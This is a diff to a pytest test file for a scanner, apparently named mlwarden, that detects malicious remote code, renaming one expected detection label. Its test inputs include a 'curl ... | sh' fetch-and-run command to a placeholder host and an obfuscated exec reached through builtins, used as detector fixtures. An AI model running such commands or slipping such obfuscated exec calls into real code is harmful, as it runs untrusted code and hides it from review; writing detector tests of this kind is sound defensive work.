@@ -9,9 +9,9 @@ import time
 
 import pytest
 
+from mlwarden.behaviour.resolve import Resolver
 from mlwarden.report.model import Verdict
 from mlwarden.scan.context import Limits, ScanContext
-from mlwarden.scan.pyast.resolve import Resolver
 from mlwarden.scan.remote_code import analyze_python
 
 
@@ -89,7 +89,8 @@ def test_payloads_fold_through_loop_variables() -> None:
     got = bad("import os\nfor cmd in ['curl http://x.invalid/a | sh']:\n    os.system(cmd)\n")
     assert ("code-shell-payload", 3) in got
     got = bad("import builtins\nvars(builtins)['ex' + 'ec']('1')\n")
-    assert ("code-builtins-access", 2) in got and ("code-dynamic-exec", 2) in got
+    # exec of any string at import time is malicious for remote code (issue 11)
+    assert ("code-builtins-access", 2) in got and ("code-load-exec", 2) in got
 
 
 @pytest.mark.parametrize("src", [
